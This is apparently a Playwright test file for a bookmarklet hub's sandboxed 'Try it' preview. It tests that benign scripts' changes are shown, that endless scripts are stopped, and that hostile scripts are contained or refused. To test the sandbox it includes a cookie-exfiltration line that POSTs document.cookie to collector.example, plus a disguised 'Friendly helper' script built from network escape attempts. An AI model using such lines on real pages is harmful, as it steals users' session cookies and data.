import { expect, type Locator, type Page, test } from "@playwright/test";
import { type WayOut, waysToServers, waysToTheHub } from "../contracts/sandbox/ways-out.ts";
import { expectNarrowPage, expectNoViolations } from "../support/axe.ts";
import { startCountingServer } from "../support/connection-counter.ts";
import { hubOrigin, signIn } from "../support/hub.ts";
import { untilLive } from "../support/live-page.ts";
import { ratedVersions, saveScriptAs } from "../support/save-script.ts";

const section = (page: Page): Locator => page.getByRole("region", { name: "Try it" });
const changed = (page: Page): Locator => section(page).getByRole("region", { name: "What it changed" });
const frame = (page: Page, moment: "before" | "after") =>
	page.frameLocator(`iframe[title="Sample page ${moment} the script"]`);

/** Saves a script, waits for its rating, and opens its page. */
async function openScript(page: Page, title: string, code: string, level: "green" | "amber" | "red"): Promise<void> {
	const { id } = await saveScriptAs(page, { title, code });
	expect(await ratedVersions(page, id)).toEqual({ "1.0.0": level });
	await page.goto(`${hubOrigin()}/bookmarklet/${id}`);
	await untilLive(page);
}

async function tryIt(page: Page): Promise<void> {
	await section(page).getByRole("button", { name: "Try it" }).click();
}

test("a script that is rated Low shows what it changes, before and after side by side, on the page that one chooses", async ({
	page,
}) => {
	await signIn(page, "Arthur Author");
	const code = `
		document.querySelector("h1").textContent = "A tour of the sea";
		for (const banner of document.querySelectorAll(".cookie-banner, .ad")) banner.hidden = true;
		document.head.append(Object.assign(document.createElement("style"), { textContent: ".cookie-banner[hidden] { display: none } p { color: rgb(0, 60, 0) }" }));
		localStorage.setItem("tours", "1");
		navigator.clipboard.writeText("A tour");`;
	await openScript(page, "Tour of the sea", code, "green");
	await section(page).scrollIntoViewIfNeeded();
	await expect(page.getByLabel("Sample page")).toHaveValue("article");
	await expect(page.locator("iframe")).toHaveCount(0);
	// By keyboard alone.
	await page.getByLabel("Sample page").focus();
	await page.keyboard.press("Tab");
	await page.keyboard.press("Enter");
	await expect(section(page).getByRole("status")).toHaveText("The script has run.", { timeout: 30_000 });
	await expect(frame(page, "before").getByRole("heading", { level: 1 })).toHaveText("A walk around the lake");
	await expect(frame(page, "after").getByRole("heading", { level: 1 })).toHaveText("A tour of the sea");
	await expect(frame(page, "before").getByRole("dialog", { name: "Cookies" })).toBeVisible();
	await expect(frame(page, "after").getByRole("dialog", { name: "Cookies" })).toBeHidden();
	for (const line of [
		"Hid 2 elements",
		"Changed the text of 1 element",
		/Changed the look of \d+ elements/,
		"Changed “tours” in local storage",
		"Copied “A tour”. Your clipboard is as it was.",
	])
		await expect(changed(page)).toContainText(line);
	expect(await page.evaluate(() => localStorage.getItem("tours"))).toBeNull();

	await page.getByLabel("Sample page").selectOption("shop");
	await expect(page.locator("iframe")).toHaveCount(0);
	await tryIt(page);
	await expect(frame(page, "after").getByRole("heading", { level: 1 })).toHaveText("A tour of the sea");
	await expect(frame(page, "before").getByRole("heading", { level: 1 })).toHaveText("Everything for tea");
	await expectNoViolations(page, "Try it", 'iframe[title^="Sample page"]');
	await expectNarrowPage(page, "Try it", 'iframe[title^="Sample page"]');

	// A link of the sample page leads nowhere: its frame says so, and the other one stays.
	await page.setViewportSize({ width: 1280, height: 720 });
	await frame(page, "before").getByRole("link", { name: "Kettle, 1.7 l" }).click();
	await expect(section(page)).toContainText("The page was left, so its frame is closed.");
	await expect(page.locator("iframe")).toHaveCount(1);
});

test("a script that never ends is ended with a message, and the page goes on", { tag: "@soak" }, async ({ page }) => {
	await signIn(page, "Arthur Author");
	// Without a loop, which would be guarded: only another process keeps the hub's page alive.
	await openScript(page, "Again and again", "(function again() { Promise.resolve().then(again); })();", "green");
	await tryIt(page);
	await expect(section(page).getByRole("status")).toHaveText("The script is running…", { timeout: 30_000 });
	// The page answers while the script blocks its frame.
	await page.getByRole("button", { name: "Share" }).focus();
	expect(await page.evaluate(() => document.activeElement?.textContent)).toBe("Share");
	await expect(section(page).getByRole("status")).toContainText("it blocked its page for seconds", { timeout: 30_000 });
	await expect(page.locator('iframe[title="Sample page after the script"]')).toHaveCount(0);
	await expect(frame(page, "before").getByRole("heading", { level: 1 })).toBeVisible();

	await openScript(page, "Loops for ever", "while (document.title) { document.title += ''; }", "green");
	await tryIt(page);
	await expect(section(page).getByRole("status")).toContainText("it blocked its page for seconds", { timeout: 30_000 });
});

test("a hostile script reaches neither a server nor the page of the hub, and is told apart", async ({ page }) => {
	const stranger = await startCountingServer();
	await signIn(page, "Arthur Author");
	// Those that lead the frame itself away, or that rate High, are in the contract of the sandbox.
	const { fetch, beacon, image, socket, form, preconnect, styles, frame: inner, media } = waysToServers;
	const ways = [fetch, beacon, image, socket, form, preconnect, styles, inner, media, ...Object.values(waysToTheHub)];
	const attempts = (ways as readonly WayOut[]).map((way) => `try { (() => { ${way(stranger)} })(); } catch { 0; }`);
	await openScript(page, "Friendly helper", `${attempts.join("\n")}\ndocument.querySelector("h1").remove();`, "amber");
	const address = page.url();
	const opened: string[] = [];
	page.on("popup", () => opened.push("window"));
	page.on("download", () => opened.push("download"));
	await tryIt(page);
	await expect(section(page).getByRole("status")).toContainText("The script", { timeout: 30_000 });
	await expect(changed(page)).toContainText(`Tried to reach ${stranger.origin}/fetch (GET). Nothing was sent.`);
	expect([page.url(), opened]).toEqual([address, []]);
	expect(await page.title()).toContain("Friendly helper");
	expect(await page.evaluate(() => localStorage.getItem("stolen"))).toBeNull();
	expect(stranger.connections()).toBe(0);
	await stranger.stop();
});

test("a script that is rated High is refused with its reason", { tag: "@soak" }, async ({ page }) => {
	await signIn(page, "Arthur Author");
	const leak = 'fetch("https://collector.example/in", { method: "POST", body: document.cookie });';
	await openScript(page, "Cookie jar", leak, "red");
	await expect(section(page)).toContainText("This script is rated High Risk, so the hub does not run it here.");
	await expect(section(page)).toContainText(/The reason: .*collector\.example.*\(line 1\)/);
	await expect(section(page).getByRole("button")).toHaveCount(0);
	await expect(page.locator("iframe")).toHaveCount(0);
	await expectNoViolations(page, "Try it, refused");
});
